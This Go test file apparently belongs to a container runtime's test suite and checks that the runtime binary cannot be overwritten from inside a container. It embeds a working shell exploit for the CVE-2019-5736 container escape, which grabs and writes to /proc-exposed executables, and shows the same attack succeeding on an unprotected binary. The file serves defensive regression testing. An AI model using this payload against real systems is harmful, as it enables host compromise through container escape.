package ociattack

import (
	"crypto/sha256"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/opencontainers/runtime-spec/specs-go"
)

// grabber looks for processes of the container whose program is not the
// container's own, opens that program by /proc, and tries to write to it from
// the moment it is no longer running (CVE-2019-5736).
const grabber = `
grab() {
	echo seen >>/tmp/log
	n=0
	while [ $n -lt 2000 ]; do
		if { echo overwritten >/proc/self/fd/9; } 2>/dev/null; then echo won >>/tmp/log; exit; fi
		n=$((n+1))
	done
}
: >/tmp/ready
while [ ! -e /tmp/stop ]; do
	for p in /proc/[0-9]*; do
		[ $p/exe -ef /bin/busybox ] && continue
		{ grab & } 9<$p/exe
	done 2>/dev/null
done
`

// TestRuntimeBinaryCannotBeOverwritten: a container that gets hold of the
// runtime's program, as that enters the container for exec, cannot write to it.
// With CAP_SYS_PTRACE it may open the program of a process that has more
// capabilities than itself.
func TestRuntimeBinaryCannotBeOverwritten(t *testing.T) {
	h := newHost(t)
	for _, caps := range [][]string{nil, {"CAP_SYS_PTRACE"}} {
		t.Run(fmt.Sprintf("container with %v more", caps), func(t *testing.T) { overwrite(t, h.in(t), caps) })
	}
}

func overwrite(t *testing.T, h *host, caps []string) {
	prog := h.prog
	h.prog = copyOf(t, h.prog, filepath.Join(h.dir, "runtime")) // it may be lost
	b := h.bundle(grabber)
	for _, set := range []*[]string{&b.spec.Process.Capabilities.Bounding, &b.spec.Process.Capabilities.Effective, &b.spec.Process.Capabilities.Permitted} {
		*set = append(*set, caps...)
	}
	// A file that runs the program that executes it.
	b.put("bin/self", []byte("#!/proc/self/exe\n"), 0o755)
	naive := copyOf(t, filepath.Join(b.rootfs, "bin/busybox"), filepath.Join(h.dir, "naive"))
	b.write("mnt/naive", "")
	b.spec.Mounts = append(b.spec.Mounts, specs.Mount{Destination: "/mnt/naive", Type: "bind", Source: naive, Options: []string{"bind"}})
	id := b.start()
	eventually(t, "the attacker is ready", func() bool { _, err := os.Stat(filepath.Join(b.rootfs, "tmp/ready")); return err == nil })

	before := digest(t, h.prog)
	for i := range rounds(60) {
		c := exec.Command(h.prog, "--root", h.root, "exec", id, []string{"/bin/self", "/proc/self/exe", "/bin/true"}[i%3])
		_ = c.Run() // what it does is not the point: it runs inside
		if digest(t, h.prog) != before {
			t.Errorf("the runtime's program was overwritten during exec %d", i)
			break
		}
	}
	seen, _ := os.ReadFile(filepath.Join(b.rootfs, "tmp/log"))
	t.Logf("the attacker opened %d programs", strings.Count(string(seen), "seen"))
	if len(caps) > 0 && len(seen) == 0 {
		t.Error("the attacker never saw the runtime's program: this proves nothing")
	}

	// The same attack against a program that runs inside as it is.
	before = digest(t, naive)
	eventually(t, "a naive program is overwritten", func() bool {
		if digest(t, naive) == before {
			// It fails once it is overwritten; that is what is waited for.
			_ = exec.Command(prog, "--root", h.root, "exec", id, "/mnt/naive", "sleep", "0.3").Run()
		}
		return digest(t, naive) != before
	})
	if err := os.WriteFile(filepath.Join(b.rootfs, "tmp/stop"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
}

// copyOf copies a program and returns the copy's path.
func copyOf(t *testing.T, from, to string) string {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(to); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o755); err != nil {
		t.Fatal(err)
	}
	return to
}

func digest(t *testing.T, path string) [sha256.Size]byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(b)
}
